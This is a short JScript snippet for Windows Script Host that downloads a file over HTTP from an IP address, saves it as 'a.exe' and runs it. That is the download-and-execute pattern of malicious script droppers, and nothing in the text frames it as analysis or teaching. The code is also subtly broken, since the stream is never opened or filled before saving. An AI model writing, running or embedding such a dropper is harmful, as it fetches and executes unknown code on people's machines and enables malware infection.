var s = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://203.0.113.7/a", false); x.send();
var f = new ActiveXObject("ADODB.Stream"); f.SaveToFile("a.exe");
s.Run("a.exe");
